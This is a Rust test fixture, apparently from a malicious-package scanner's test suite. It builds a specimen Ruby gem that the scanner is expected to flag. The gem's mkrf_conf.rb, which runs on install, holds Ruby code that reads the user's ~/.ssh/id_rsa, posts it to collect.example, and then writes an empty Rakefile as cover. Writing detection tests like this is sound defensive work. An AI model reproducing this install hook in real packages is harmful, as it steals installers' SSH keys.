//! A gem whose `mkrf_conf.rb` sends an SSH key and then writes a Rakefile that does nothing.
//!
//! Must be found: the bait leaves in the mkrf_conf.rb.

use crate::build::Package as _;
use crate::{Expect, Gem, Specimen};

const CONF: &str = r#"require 'net/http'
begin
  Net::HTTP.post(URI('https://collect.example/mkrf'), File.read(File.expand_path('~/.ssh/id_rsa')))
rescue StandardError
  nil
end
File.write('Rakefile', "task :default\n")
"#;

pub(super) fn specimen() -> Specimen {
    let package = Gem::new("mkrf_built", "0.9.0")
        .extension("ext/mkrf_conf.rb", CONF)
        .file("lib/mkrf_built.rb", "module MkrfBuilt\nend\n");
    package
        .specimen("gem-mkrf-conf", Expect::malicious(&["canary-exfiltrated"]))
        .telling("in its mkrf_conf.rb")
}
